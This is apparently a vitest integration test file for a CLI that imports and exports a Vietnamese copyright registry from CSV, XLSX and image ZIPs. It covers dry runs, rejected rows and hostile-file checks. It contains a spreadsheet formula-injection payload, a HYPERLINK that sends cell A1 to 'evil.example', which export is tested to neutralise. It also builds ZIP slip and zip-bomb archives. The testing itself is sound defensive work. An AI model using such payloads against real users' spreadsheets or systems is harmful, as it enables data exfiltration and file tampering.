import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scenePng } from '../fingerprints/image/synthetic.fixture.ts';
import { csvOf, renameInZip, xlsxOf, zipOf } from '../fingerprints/registry/import/import.fixture.ts';
import { runCli, type CliResult } from './helpers/cli.ts';
import { createTestDatabase, databaseKinds, type TestDatabase } from './helpers/databases.ts';

/**
 * `ipwatch registry import|export` (DESIGN.md §5) as the real process. Each run starts Node, tsx and the
 * database, so the cases are grouped; the import service's own tests cover the rest in-process.
 */
interface Summary {
  kind: 'works' | 'marks';
  created: number;
  updated: number;
  unchanged: number;
  rejected: { row: number; errors: string[] }[];
}

const SLOW = { timeout: 600_000 };
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';

function summary(result: CliResult): Summary {
  expect(result.stderr).not.toMatch(/\n\s+at /);
  return JSON.parse(result.stdout) as Summary;
}

async function tempEnv(prefix: string): Promise<{ dir: string; env: NodeJS.ProcessEnv }> {
  const dir = await fs.mkdtemp(path.join(os.tmpdir(), prefix));
  return { dir, env: { ...process.env, IPWATCH_DATA_DIR: path.join(dir, 'data'), DATABASE_URL: '', REDIS_URL: '', IPWATCH_LOG_LEVEL: 'warn' } };
}

describe.each(databaseKinds())('ipwatch registry import/export on %s', (kind) => {
  let dir: string;
  let env: NodeJS.ProcessEnv;
  let database: TestDatabase | undefined;
  const file = (name: string) => path.join(dir, name);
  const cli = (...args: string[]) => runCli(['registry', ...args], env);
  const write = async (name: string, data: string | Buffer) => (await fs.writeFile(file(name), data), file(name));

  beforeAll(async () => {
    ({ dir, env } = await tempEnv('ipwatch-registry-'));
    if (kind === 'postgres') {
      database = await createTestDatabase('postgres');
      env.DATABASE_URL = database.url;
    }
  });
  afterAll(async () => {
    await database?.close();
    await fs.rm(dir, { recursive: true, force: true });
  });

  it('import with images, re-import unchanged, dry run, a bad row writes nothing, export round trip', SLOW, async () => {
    const images = await write('images.zip', await zipOf([
      { name: 'anh/dam-cuoi-chuot.png', data: await sharp(await scenePng(1, 160, 120)).png().toBuffer() },
      { name: 'anh/ga-trong.png', data: await sharp(await scenePng(2, 160, 120)).png().toBuffer() },
    ]));
    const csv = await write('works.csv', csvOf([
      ['Tên tác phẩm', 'Loại hình', 'Tác giả', 'Chủ sở hữu', 'Số giấy chứng nhận', 'Ngày cấp giấy chứng nhận', 'Ngày công bố', 'Mô tả', 'Hình ảnh', 'Nội dung văn bản'],
      ['Đám cưới chuột', 'fine_art', 'Nghệ nhân A; Nghệ nhân B', 'Làng tranh Đông Hồ', '3794/2026/QTG', '2026-03-05', '05/01/2025', 'Tranh khắc gỗ', 'dam-cuoi-chuot.png; ga-trong.png', ''],
      ['Bài thơ làng tranh', 'literary', 'Tác giả C', 'Tác giả C', '', '', '', FORMULA, '', 'Làng tranh giấy điệp hây hây\nMẹ ngồi in mộc cả ngày không thôi'],
    ]));
    const first = await cli('import', csv, '--images', images, '--format', 'json');
    expect(first.code, first.stderr).toBe(0);
    expect(summary(first)).toEqual({ kind: 'works', created: 2, updated: 0, unchanged: 0, rejected: [] });
    const again = await cli('import', csv, '--images', images, '--format', 'json');
    expect(summary(again)).toEqual({ kind: 'works', created: 0, updated: 0, unchanged: 2, rejected: [] });

    const changes = await write('changes.csv', csvOf([
      ['title', 'type', 'owners', 'certificate_no', 'description'],
      ['Đám cưới chuột', 'fine_art', 'Làng tranh Đông Hồ', '3794/2026/QTG', 'Tranh khắc gỗ, in trên giấy điệp'],
      ['Bài thơ làng tranh', 'literary', 'Tác giả C', '', FORMULA],
      ['Lợn ăn cây ráy', 'Mỹ thuật', 'Làng tranh Đông Hồ', '', ''],
      ['Chăn trâu', 'painting', 'Làng tranh Đông Hồ', '', ''],
    ]));
    const dry = await cli('import', changes, '--dry-run');
    expect(dry.code).toBe(1);
    expect(dry.stdout).toMatch(/chạy thử/);
    expect(dry.stdout).toMatch(/dòng 2\s+cập nhật\s+Đám cưới chuột/);
    expect(dry.stdout).toMatch(/dòng 3\s+không đổi\s+Bài thơ làng tranh/);
    expect(dry.stdout).toMatch(/dòng 4\s+tạo mới\s+Lợn ăn cây ráy/);
    expect(dry.stdout).toMatch(/dòng 5\s+bị từ chối[\s\S]*loại hình không hợp lệ "painting"/);

    const real = await cli('import', changes, '--format', 'json');
    expect(real.code).toBe(1);
    expect(summary(real)).toEqual({ kind: 'works', created: 0, updated: 0, unchanged: 0, rejected: [{ row: 5, errors: [expect.stringMatching(/loại hình không hợp lệ "painting".*unknown work type/)] }] });

    const out = file('works-export.csv');
    const exported = await cli('export', '--kind', 'works', '--format', 'csv', '--out', out);
    expect(exported.code, exported.stderr).toBe(0);
    expect(exported.stdout).toMatch(/Đã xuất 2 tác phẩm/);
    const text = await fs.readFile(out, 'utf8');
    expect(text).not.toContain('Lợn ăn cây ráy');
    expect(text).not.toContain('in trên giấy điệp');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")"`);
    const xlsxOut = file('works-export.xlsx');
    expect((await cli('export', '--kind', 'works', '--format', 'xlsx', '--header', 'vi', '--out', xlsxOut)).code).toBe(0);
    expect(summary(await cli('import', xlsxOut, '--format', 'json'))).toEqual({ kind: 'works', created: 0, updated: 0, unchanged: 2, rejected: [] });
  });
});

describe('ipwatch registry import: hostile files (PGlite)', () => {
  let dir: string;
  let env: NodeJS.ProcessEnv;
  const file = (name: string) => path.join(dir, name);
  const write = async (name: string, data: string | Buffer) => (await fs.writeFile(file(name), data), file(name));
  const goodCsv = csvOf([['title', 'type', 'owners', 'images'], ['Tranh gà', 'fine_art', 'Làng tranh Đông Hồ', 'ga.png']]);

  beforeAll(async () => {
    ({ dir, env } = await tempEnv('ipwatch-registry-bad-'));
  });
  afterAll(() => fs.rm(dir, { recursive: true, force: true }));

  async function refusedFile(args: string[], pattern: RegExp, extraEnv: NodeJS.ProcessEnv = {}): Promise<void> {
    const result = await runCli(['registry', ...args], { ...env, ...extraEnv });
    expect(result.code, result.stdout).toBe(1);
    expect(result.stderr).not.toMatch(/\n\s+at /);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
    expect(result.stderr).toMatch(pattern);
  }

  it('unusable files: wrong type behind the extension, truncated XLSX, broken quote, oversize, ZIP slip and bomb', SLOW, async () => {
    const png = await sharp({ create: { width: 32, height: 32, channels: 3, background: '#a33' } }).png().toBuffer();
    await refusedFile(['import', await write('photo.csv', png)], /photo\.csv: .*không phải văn bản CSV/);
    const xlsx = await xlsxOf([['title', 'type', 'owners'], ['A', 'photo', 'B']]);
    await refusedFile(['import', await write('cut.xlsx', xlsx.subarray(0, xlsx.length - 200))], /cut\.xlsx: .*ZIP/);
    await refusedFile(['import', await write('quote.csv', 'title,type,owners\nA,photo,B\n"C,photo,D\nE,photo,F\n')], /quote\.csv, dòng\/row 3: .*ngoặc kép/);
    await refusedFile(['import', await write('big.csv', goodCsv + 'x'.repeat(5000))], /big\.csv: tệp quá lớn/, { IPWATCH_IMPORT_MAX_FILE_BYTES: '4096' });
    const csv = await write('one.csv', goodCsv);
    const slip = renameInZip(await zipOf([{ name: 'xx/ga.png', data: png }]), 'xx/ga.png', '../ga.png');
    await refusedFile(['import', csv, '--images', await write('slip.zip', slip)], /slip\.zip: .*đường dẫn không an toàn/);
    await refusedFile(['import', csv, '--images', await write('bomb.zip', await zipOf([{ name: 'ga.png', data: Buffer.alloc(12 * 1024 * 1024) }]))], /bomb\.zip: .*bom giải nén/);
  });

  it('refused rows and header: an image that is not one, an unknown type code, a missing required column', SLOW, async () => {
    const csv = await write('rows.csv', csvOf([['title', 'type', 'owners', 'images'], ['Tranh gà', 'fine_art', 'Làng tranh Đông Hồ', 'ga.png'], ['Tranh lợn', 'sculpture', 'Làng tranh Đông Hồ', '']]));
    const fake = await write('fake.zip', await zipOf([{ name: 'ga.png', data: Buffer.from('<html>not an image</html>') }]));
    const rows = await runCli(['registry', 'import', csv, '--images', fake, '--format', 'json'], env);
    expect(rows.code).toBe(1);
    expect(summary(rows).rejected).toEqual([
      { row: 2, errors: [expect.stringMatching(/ga\.png: nội dung không phải hình ảnh/)] },
      { row: 3, errors: [expect.stringMatching(/loại hình không hợp lệ "sculpture"/)] },
    ]);
    const noOwners = await runCli(['registry', 'import', await write('no-owners.csv', csvOf([['title', 'type'], ['A', 'photo']])), '--format', 'json'], env);
    expect(noOwners.code).toBe(1);
    expect(summary(noOwners)).toEqual({ kind: 'works', created: 0, updated: 0, unchanged: 0, rejected: [{ row: 1, errors: [expect.stringMatching(/thiếu cột bắt buộc: owners/)] }] });
  });
});
